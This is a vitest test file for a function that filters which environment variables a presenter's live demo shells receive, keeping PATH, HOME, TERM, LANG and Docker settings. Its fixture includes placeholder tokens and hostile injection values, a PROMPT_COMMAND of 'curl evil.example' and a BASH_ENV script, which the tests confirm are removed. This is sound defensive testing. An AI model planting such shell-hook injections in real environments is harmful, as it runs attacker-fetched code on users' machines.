import { describe, expect, it } from 'vitest';
import { cleanEnvironment } from '../../../src/live/environment.ts';

describe('cleanEnvironment: what the live shells get of the presenter environment', () => {
  const presenter = {
    PATH: '/usr/local/bin:/usr/bin',
    HOME: '/home/ada',
    LANG: 'en_GB.UTF-8',
    DOCKER_HOST: 'unix:///run/user/1000/docker.sock',
    DOCKER_CONFIG: '/home/ada/.docker-talk',
    GITHUB_TOKEN: 'ghp_secret',
    SSH_AUTH_SOCK: '/tmp/ssh-agent',
    AWS_SECRET_ACCESS_KEY: 'secret',
    BASH_ENV: '/home/ada/evil.sh',
    PROMPT_COMMAND: 'curl evil.example',
    http_proxy: 'http://proxy:3128',
  };

  it('keeps PATH (the client first), HOME, TERM, LANG, the pinned DOCKER_HOST and DOCKER_CONFIG; nothing else', () => {
    expect(cleanEnvironment(presenter, { buildkit: 'buildx', env: {} }, '/tmp/shim')).toEqual({
      PATH: '/tmp/shim:/usr/local/bin:/usr/bin',
      HOME: '/home/ada',
      TERM: 'xterm-256color',
      LANG: 'en_GB.UTF-8',
      DOCKER_HOST: 'unix:///run/user/1000/docker.sock',
      DOCKER_CONFIG: '/home/ada/.docker-talk',
    });
  });

  it('adds DOCKER_BUILDKIT=1 for a client older than 23, pins the default socket, and a UTF-8 LANG', () => {
    expect(
      cleanEnvironment(
        { PATH: '/usr/bin', HOME: '/root', LANG: 'C' },
        { buildkit: 'DOCKER_BUILDKIT=1', env: {} },
        '/s',
      ),
    ).toEqual({
      PATH: '/s:/usr/bin',
      HOME: '/root',
      TERM: 'xterm-256color',
      LANG: 'C.UTF-8',
      DOCKER_HOST: 'unix:///var/run/docker.sock',
      DOCKER_BUILDKIT: '1',
    });
  });
});
